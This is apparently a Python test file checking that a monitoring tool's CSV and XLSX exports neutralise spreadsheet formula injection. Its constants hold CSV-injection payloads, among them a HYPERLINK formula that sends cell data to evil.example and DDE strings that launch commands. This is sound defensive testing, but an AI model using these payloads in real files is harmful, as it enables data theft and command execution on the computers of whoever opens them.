"""Exported spreadsheets are neutralised against formula injection; machine exports stay exact.

A cell that starts with ``=``, ``+``, ``-``, ``@`` — or with a tab or carriage return, which
some spreadsheet programs strip before looking — is a formula to Excel, LibreOffice and Google
Sheets (OWASP "CSV injection"). Post titles, post URLs and failure messages come from the web;
institution names come from registry files other offices fill in. So every file pantau makes
*for people to open in a spreadsheet* — the weekly report's CSV and XLSX, the CSV attached to
a long digest — holds such values prefixed with ``'``, i.e. as text.

The two machine-readable CSV exports carry the same guard (issue 14): ``pantau status --format
csv`` neutralises like the report (its JSON stays exact, for scripts), and ``pantau registry
export --format csv`` escapes reversibly — a formula-like cell, or one that already starts with
``'`` before such a rest, gets one ``'`` in front, and ``registry import`` takes exactly that one
off — so re-importing the export still changes nothing (``pantau.config.cells``).

The hostile institutions travel through ``pantau registry import``. The titles, URLs and
reasons are written into the database with pantau's own storage function, as a check records
them: the readers strip surrounding whitespace from titles, so a leading tab or CR cannot
arrive through a crawl today — the exporter must hold anyway, whatever reaches storage.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from conftest import pantau_command

from pantau.storage.db import open_db
from pantau.storage.observations import record_observation

pytest_plugins = ["tests.smtp_server"]

HEADER = "institution,region,platform,handle,url,feed_url,owner_email,dormant_after_days,note\n"
KADIS = "kadis@kominfo.mubakab.go.id"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")

# Institution names, as offices type them into a registry (leading whitespace is stripped on import).
INSTITUTIONS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Lihat laporan")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]
# Post titles and URLs, as a check stores them from the web.
TITLES = [
    "=1+2",
    "+62-711-123456",
    "-10+20",
    "@A1",
    '\t=HYPERLINK("http://evil.example","x")',
    '\r=HYPERLINK("http://evil.example","y")',
]
URL_FORMULA = '=HYPERLINK("http://evil.example/?u","klik")'
REASON_FORMULA = "=cmd|' /C calc'!A0"
DORMANT = 101  # one more than a digest lists in its body, so it attaches the full list as CSV


def _smtp_server(directory: Path) -> Any:
    # Imported late: pytest first loads tests.smtp_server as a plugin (and rewrites its asserts).
    from tests.smtp_server import SmtpServer

    return SmtpServer(directory).start()


@pytest.fixture(scope="module")
def exported(tmp_path_factory: Any, new_project: Any) -> Any:
    """101 dormant accounts of Kab. Musi Banyuasin, some with formula-like values, and one unknown
    account whose reason is a formula; then `alerts send` and `report weekly --send --out`."""
    root = tmp_path_factory.mktemp("exports")
    smtp = _smtp_server(root)
    try:
        p = new_project(
            root / "kominfo",
            f"""
[smtp]
host = "{smtp.host}"
port = {smtp.port}
sender = "pantau@kominfo.example.go.id"
timeout_s = 5

[[recipients]]
name = "Kepala Dinas Kominfo Kab. Musi Banyuasin"
email = "{KADIS}"
regions = ["16.06"]
""",
        )
        names = INSTITUTIONS + [f"Dinas {i} Kab. Musi Banyuasin" for i in range(DORMANT - len(INSTITUTIONS))]
        names.append("Kecamatan Sekayu")  # the unknown account
        buf = io.StringIO()
        writer = csv.writer(buf, lineterminator="\n")
        for i, name in enumerate(names):
            writer.writerow([name, "16.06", "website", "", f"https://opd{i}.mubakab.go.id/", "", "", "", ""])
        p.write("registry.csv", HEADER + buf.getvalue())
        imported = p.run("registry", "import", "registry.csv")
        assert imported.returncode == 0, imported.stderr

        now = datetime.now(UTC)
        db = open_db(p.db_path)
        try:
            ids = [r[0] for r in db.execute("select id from accounts order by id")]
            for n, account_id in enumerate(ids[:-1]):
                title = TITLES[n] if n < len(TITLES) else f"Berita {n}"
                url = URL_FORMULA if n == len(TITLES) else f"https://opd{n}.mubakab.go.id/berita/{n}"
                record_observation(
                    db,
                    {
                        "account_id": account_id,
                        "checked_at": now - timedelta(hours=1),
                        "outcome": "ok",
                        "evidence": "feed",
                        "activity_url": url,
                        "activity_at": now - timedelta(days=45),
                        "activity_title": title,
                    },
                )
            record_observation(
                db,
                {
                    "account_id": ids[-1],
                    "checked_at": now - timedelta(hours=1),
                    "outcome": "unsupported",
                    "error": REASON_FORMULA,
                },
            )
        finally:
            db.conn.close()

        p.alerts = p.run("alerts", "send")
        assert p.alerts.returncode == 0, p.alerts.stderr
        p.report = p.run("report", "weekly", "--send", "--out", "laporan")
        assert p.report.returncode == 0, p.report.stderr
        p.received = [r.message for r in smtp.received]
        p.names = names
        yield p
    finally:
        smtp.stop()


def run_bytes(p: Any, *args: str) -> bytes:
    """`pantau ARGS` with stdout as the bytes pantau wrote."""
    done = subprocess.run(
        pantau_command() + ["--config", str(p.config), *args], cwd=p.root, capture_output=True, check=False, timeout=120
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data: bytes) -> list[Any]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def hostile_values() -> list[str]:
    return INSTITUTIONS + TITLES + [URL_FORMULA, REASON_FORMULA]


def attachments(msg: Any) -> dict[str, bytes]:
    return {part.get_filename(): part.get_payload(decode=True) for part in msg.iter_attachments()}


def report_file(p: Any, suffix: str) -> Path:
    (path,) = (p.root / "laporan").glob(f"*{suffix}")
    return path


def test_the_weekly_report_csv_holds_formula_like_values_as_text(exported):
    data = report_file(exported, ".csv").read_bytes()
    cells = [cell for row in csv_rows(data) for cell in row]

    assert len(csv_rows(data)) == 1 + DORMANT + 1
    # It should prefix every formula-like value with ' and leave no cell a spreadsheet would evaluate
    for value in hostile_values():
        assert "'" + value in cells, value
    assert [c for c in cells if c.startswith(FORMULA_START)] == []


def test_the_weekly_report_xlsx_holds_formula_like_values_as_text(exported):
    cells = xlsx_cells(report_file(exported, ".xlsx").read_bytes())
    strings = [c.value for c in cells if isinstance(c.value, str)]

    # It should store every formula-like value as a text cell starting with '
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for value in hostile_values():
        assert "'" + value in strings, value
    assert [s for s in strings if s.startswith(FORMULA_START)] == []


def test_the_mailed_report_attaches_the_same_neutralised_files(exported):
    (msg,) = [m for m in exported.received if "Laporan mingguan" in str(m["Subject"])]
    attached = attachments(msg)

    # It should mail exactly the files written with --out
    assert attached == {
        path.name: path.read_bytes() for path in (report_file(exported, ".csv"), report_file(exported, ".xlsx"))
    }


def test_the_csv_attached_to_a_long_digest_holds_formula_like_values_as_text(exported):
    (msg,) = [m for m in exported.received if "perlu perhatian" in str(m["Subject"])]
    (data,) = attachments(msg).values()
    cells = [cell for row in csv_rows(data) for cell in row]

    assert len(csv_rows(data)) == 1 + DORMANT
    # It should prefix every formula-like value with ' in the digest's attachment too
    for value in INSTITUTIONS + TITLES + [URL_FORMULA]:
        assert "'" + value in cells, value
    assert [c for c in cells if c.startswith(FORMULA_START)] == []


def test_status_csv_neutralises_what_the_json_keeps_exact(exported):
    """The status CSV carries the JSON's values, with ' in front of each formula-like one."""
    as_json = json.loads(exported.run("status", "--format", "json").stdout)
    # Read as bytes: a text-mode pipe would turn the CR a title starts with into a newline.
    as_csv = list(csv.DictReader(io.StringIO(run_bytes(exported, "status", "--format", "csv").decode(), newline="")))

    by_id = {str(r["id"]): r for r in as_json}
    # It should print every institution, title, URL and reason as the JSON does, neutralised
    for row in as_csv:
        for key in ("institution", "last_activity_title", "last_activity_url", "reason"):
            value = by_id[row["id"]][key] or ""
            assert row[key] == ("'" + value if value.startswith(FORMULA_START) else value), (key, row[key])
    shown = {v for row in as_csv for v in row.values()}
    assert {"'" + v for v in hostile_values()} <= shown


def test_registry_export_is_neutralised_yet_a_reimport_changes_nothing(exported, tmp_path):
    """registry export escapes formula-like cells reversibly; the round trip stays exact."""
    out = tmp_path / "registry-export.csv"
    assert exported.run("registry", "export", "--format", "csv", "--out", str(out)).returncode == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))

    # It should export each institution as text a spreadsheet will not evaluate
    assert [r["institution"] for r in rows] == ["'" + n if n.startswith(FORMULA_START) else n for n in exported.names]
    again = exported.run("registry", "import", str(out))
    # It should change nothing when the export is imported again
    assert again.returncode == 0, again.stderr
    assert again.stdout.strip() == f"added 0, updated 0, unchanged {len(exported.names)}, rejected 0"
